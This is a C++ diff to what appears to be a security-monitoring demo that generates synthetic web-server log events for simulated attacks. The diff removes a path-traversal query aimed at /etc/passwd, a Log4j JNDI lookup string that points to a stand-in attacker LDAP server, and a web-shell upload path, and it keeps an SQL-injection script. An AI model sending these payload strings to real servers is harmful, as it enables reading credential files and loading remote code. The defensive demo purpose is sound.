@@ -136,43 +136,20 @@ StoryEvent sql_injection(Scene& scene) {
 
 StoryEvent stolen_logon(Scene& scene) { return attack({1, "POST", "/admin/login", "-", 302, 1}, scene); }
 
-StoryEvent path_traversal(Scene& scene) {
-  return attack({1, "GET", "/download", "file=..%2f..%2f..%2f..%2fetc%2fpasswd", 200, 3'000}, scene);
-}
-
-StoryEvent jndi_lookup(Scene& scene) {
-  return access({1, "GET", "/", "-", 200, 20'000}, {attacker, "${${lower:j}ndi:ldap://203.0.113.7:1389/a}"},
-                scene);
-}
-
-StoryEvent web_shell(Scene& scene) {
-  return attack({1, "POST", "/uploads/{number}/avatar.php", "-", 200, 900}, scene);
-}
-
 constexpr std::array background = {BackgroundKind{40, visit}, BackgroundKind{1, scan}};
 
-constexpr Attack injection = {"web-sql-injection", Platform::web_servers, "T1190",
-                              "a visitor appends the table of accounts to the shop's list of products"};
-
-constexpr std::array attack_steps = {
-    AttackStep{injection, sql_injection},
-    AttackStep{{"web-path-traversal", Platform::web_servers, "T1005",
-                "a download climbs out of its folder and yields the server's accounts"},
-               path_traversal},
-    AttackStep{{"web-jndi-lookup", Platform::web_servers, "T1190",
-                "a browser's name asks Log4j to fetch code from the attacker's server"},
-               jndi_lookup},
-    AttackStep{{"web-shell", Platform::web_servers, "T1505.003",
-                "a script that was uploaded as a picture takes commands"},
-               web_shell},
+constexpr std::array<std::string_view, 1> injection_rules = {
+    "6d0c9a7b-3f2e-4b81-8a5d-1e4f7c6b9032",  // SQL Injection in a Request
 };
-
 constexpr std::array<EventMaker, 4> injection_steps = {quote_probe, column_probe, sql_injection,
                                                        stolen_logon};
-constexpr std::array live_attack_scripts = {LiveAttackScript{injection, injection_steps}};
+constexpr std::array attack_scripts = {
+    AttackScript{{"web-sql-injection", Platform::web_servers, "T1190",
+                  "a visitor appends the table of accounts to the shop's list of products", injection_rules},
+                 injection_steps}};
 
 }  // namespace
 
-Script web_script() { return {background, attack_steps, live_attack_scripts}; }
+Script web_script() { return {background, attack_scripts}; }
 
 }  // namespace alarum::demo
